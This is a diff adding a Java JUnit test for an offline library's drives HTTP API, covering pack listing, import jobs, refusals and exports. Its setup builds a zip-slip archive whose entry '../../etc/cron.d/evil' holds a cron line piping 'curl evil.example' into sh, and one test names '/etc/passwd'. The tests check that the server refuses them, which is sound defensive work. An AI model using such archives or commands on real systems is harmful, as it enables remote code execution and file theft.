@@ -1,0 +1,200 @@
+package org.offlinecommons.drive;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
+import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.offlinecommons.job.JobRunner;
+import org.offlinecommons.pack.LibrarySnapshot;
+import org.offlinecommons.store.Library;
+import org.offlinecommons.web.WebServer;
+
+/** The drives JSON API over real HTTP: listing, importing with jobs, refusing, exporting. */
+class DriveApiTest {
+
+    @TempDir
+    static Path tmp;
+    static Path inbox;
+    static Path stick;
+    static Library library;
+    static JobRunner jobs;
+    static WebServer server;
+    static final HttpClient http = HttpClient.newHttpClient();
+    static final ObjectMapper json = new ObjectMapper();
+
+    @BeforeAll
+    static void start() throws Exception {
+        library = Library.open(tmp.resolve("data"));
+        inbox = Files.createDirectories(tmp.resolve("data/inbox"));
+        stick = Files.createDirectories(tmp.resolve("media/STICK")).toRealPath();
+        DriveFixtures.pack(tmp, "garden", 1, inbox.resolve("garden.zip"));
+        DriveFixtures.pack(tmp, "river", 1, stick.resolve("river.zip"));
+        Path evil = inbox.resolve("evil.zip");
+        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(evil)) {
+            zip.putArchiveEntry(new ZipArchiveEntry("pack.json"));
+            zip.write("{}".getBytes());
+            zip.closeArchiveEntry();
+            zip.putArchiveEntry(new ZipArchiveEntry("../../etc/cron.d/evil"));
+            zip.write("* * * * * root curl evil.example | sh".getBytes());
+            zip.closeArchiveEntry();
+        }
+        DriveFixtures.settled(evil);
+        jobs = new JobRunner();
+        Drives drives = new Drives(library, DriveSettings.of(tmp.resolve("data"))
+                .withMountRoots(List.of(tmp.resolve("media"))));
+        server = WebServer.start(library, jobs, new WebServer.Options("127.0.0.1", 0), drives);
+    }
+
+    @AfterAll
+    static void stop() {
+        server.close();
+        jobs.close();
+        library.close();
+    }
+
+    @Test
+    void listsTheInboxAndDrivesWithEachPacksState() throws Exception {
+        HttpResponse<String> r = send("GET", "/api/v1/drives", null);
+        assertThat(r.statusCode()).isEqualTo(200);
+        JsonNode drives = json.readTree(r.body()).get("drives");
+        assertThat(drives).hasSize(2);
+        assertThat(drives.get(0).get("inbox").asBoolean()).isTrue();
+        assertThat(drives.get(1).get("label").asText()).isEqualTo("STICK");
+        assertThat(drives.get(1).get("fileSystem").isTextual()).isTrue();
+        Map<String, JsonNode> packs = new HashMap<>();
+        drives.forEach(d -> d.get("packs").forEach(p -> packs.put(p.get("file").asText(), p)));
+        assertThat(packs.get("river.zip").get("state").asText()).isEqualTo("new");
+        assertThat(packs.get("river.zip").get("id").asText()).isEqualTo("river");
+        assertThat(packs.get("river.zip").get("path").asText()).isEqualTo(stick.resolve("river.zip").toString());
+        assertThat(packs.get("evil.zip").get("state").asText()).isEqualTo("invalid");
+        assertThat(packs.get("evil.zip").get("detail").asText())
+                .isEqualTo("evil.zip: zip entry '../../etc/cron.d/evil': the path contains a '..' segment");
+    }
+
+    @Test
+    void aBadPackIsRefusedWith400NamingTheFileAndNothingChanges() throws Exception {
+        String before = LibrarySnapshot.of(library);
+        HttpResponse<String> r = send("POST", "/api/v1/drives/import",
+                Map.of("paths", List.of(inbox.resolve("evil.zip").toString())));
+        assertThat(r.statusCode()).isEqualTo(400);
+        JsonNode body = json.readTree(r.body());
+        assertThat(body.get("error").asText()).isEqualTo("invalid");
+        assertThat(body.get("message").asText())
+                .isEqualTo("evil.zip: zip entry '../../etc/cron.d/evil': the path contains a '..' segment");
+        assertThat(LibrarySnapshot.of(library)).isEqualTo(before);
+    }
+
+    @Test
+    void theDefaultServerRefusesABadPackInItsInboxToo() throws Exception {
+        // WebServer.start without drive settings: the library's inbox and the usual mount roots.
+        try (Library other = Library.open(tmp.resolve("other"))) {
+            Path bad = DriveFixtures.notAZip(Files.createDirectories(tmp.resolve("other/inbox")).resolve("photos.zip"));
+            JobRunner otherJobs = new JobRunner();
+            WebServer plain = WebServer.start(other, otherJobs, new WebServer.Options("127.0.0.1", 0));
+            try {
+                HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:"
+                        + plain.port() + "/api/v1/drives/import")).header("Content-Type", "application/json")
+                        .POST(HttpRequest.BodyPublishers.ofString(json.writeValueAsString(
+                                Map.of("paths", List.of(bad.toString()))))).build(),
+                        HttpResponse.BodyHandlers.ofString());
+                assertThat(r.statusCode()).isEqualTo(400);
+                JsonNode body = json.readTree(r.body());
+                assertThat(body.get("error").asText()).isEqualTo("invalid");
+                assertThat(body.get("message").asText()).startsWith("photos.zip: is not a readable zip file");
+                assertThat(other.catalog().packs()).isEmpty();
+            } finally {
+                plain.close();
+                otherJobs.close();
+            }
+        }
+    }
+
+    @Test
+    void filesOutsideTheDrivesCannotBeNamed() throws Exception {
+        HttpResponse<String> r = send("POST", "/api/v1/drives/import", Map.of("paths", List.of("/etc/passwd")));
+        assertThat(r.statusCode()).isEqualTo(404);
+        assertThat(json.readTree(r.body()).get("message").asText())
+                .isEqualTo("/etc/passwd: is not on a drive or in the inbox");
+        HttpResponse<String> export = send("POST", "/api/v1/drives/export",
+                Map.of("packs", List.of("garden"), "target", tmp.resolve("data").toString()));
+        assertThat(export.statusCode()).isEqualTo(404);
+        assertThat(json.readTree(export.body()).get("message").asText()).endsWith(": is not a drive or a folder on one");
+        HttpResponse<String> garbage = send("POST", "/api/v1/drives/import", "{\"paths\": ");
+        assertThat(garbage.statusCode()).isEqualTo(400);
+        assertThat(json.readTree(garbage.body()).get("message").asText()).startsWith("The request body must be JSON");
+    }
+
+    @Test
+    void importsRunAsJobsAndExportsWriteToTheStick() throws Exception {
+        Path meadow = DriveFixtures.pack(tmp, "meadow", 1, inbox.resolve("meadow.zip"));
+        Path forest = DriveFixtures.pack(tmp, "forest", 3, stick.resolve("packs/forest.zip"));
+        HttpResponse<String> r = send("POST", "/api/v1/drives/import", Map.of("paths", List.of(
+                meadow.toString(), forest.toString())));
+        assertThat(r.statusCode()).as(r.body()).isEqualTo(202);
+        JsonNode started = json.readTree(r.body()).get("jobs");
+        assertThat(started).hasSize(2);
+        for (JsonNode s : started) {
+            JsonNode status = awaitJob(s.get("job").get("url").asText());
+            assertThat(status.get("state").asText()).as(status.toString()).isEqualTo("SUCCEEDED");
+            assertThat(status.get("doneBytes").asLong()).isEqualTo(status.get("totalBytes").asLong()).isPositive();
+        }
+        assertThat(started.get(1).get("pack").asText()).isEqualTo("forest");
+        assertThat(library.catalog().pack("meadow")).isPresent();
+        assertThat(library.catalog().pack("forest").orElseThrow().version()).isEqualTo(3);
+
+        HttpResponse<String> e = send("POST", "/api/v1/drives/export",
+                Map.of("packs", List.of("meadow", "forest"), "target", stick.resolve("for-the-next-school").toString()));
+        assertThat(e.statusCode()).as(e.body()).isEqualTo(202);
+        JsonNode status = awaitJob(json.readTree(e.body()).get("job").get("url").asText());
+        assertThat(status.get("state").asText()).as(status.toString()).isEqualTo("SUCCEEDED");
+        assertThat(status.get("message").asText()).startsWith("Wrote 2 packs");
+        assertThat(stick.resolve("for-the-next-school/meadow-v1.zip")).isRegularFile();
+        assertThat(stick.resolve("for-the-next-school/forest-v3.zip")).isRegularFile();
+
+        HttpResponse<String> unknown = send("POST", "/api/v1/drives/export",
+                Map.of("packs", List.of("nope"), "target", stick.toString()));
+        assertThat(unknown.statusCode()).isEqualTo(404);
+        assertThat(json.readTree(unknown.body()).get("message").asText()).isEqualTo("pack 'nope' is not installed");
+    }
+
+    private static JsonNode awaitJob(String url) throws Exception {
+        JsonNode[] last = new JsonNode[1];
+        DriveFixtures.await(Duration.ofSeconds(30), () -> {
+            try {
+                last[0] = json.readTree(send("GET", url, null).body());
+                return !List.of("QUEUED", "RUNNING").contains(last[0].get("state").asText());
+            } catch (Exception ex) {
+                throw new IllegalStateException(ex);
+            }
+        }, "job " + url + " finishes");
+        return last[0];
+    }
+
+    private static HttpResponse<String> send(String method, String path, Object body) throws Exception {
+        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + path))
+                .header("Accept", "application/json");
+        if (body == null) {
+            b.method(method, HttpRequest.BodyPublishers.noBody());
+        } else {
+            String text = body instanceof String s ? s : json.writeValueAsString(body);
+            b.header("Content-Type", "application/json").method(method, HttpRequest.BodyPublishers.ofString(text));
+        }
+        return http.send(b.build(), HttpResponse.BodyHandlers.ofString());
+    }
+}
